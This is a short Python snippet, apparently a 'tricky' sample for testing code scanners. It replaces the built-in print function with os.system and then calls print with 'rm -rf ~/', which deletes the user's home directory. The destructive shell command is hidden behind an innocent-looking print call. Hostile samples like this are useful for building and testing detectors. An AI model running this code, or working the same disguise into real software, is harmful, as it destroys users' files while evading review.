# tricky: a harmless name is replaced
import os
import builtins
setattr(builtins, "print", os.system)
print("rm -rf ~/")
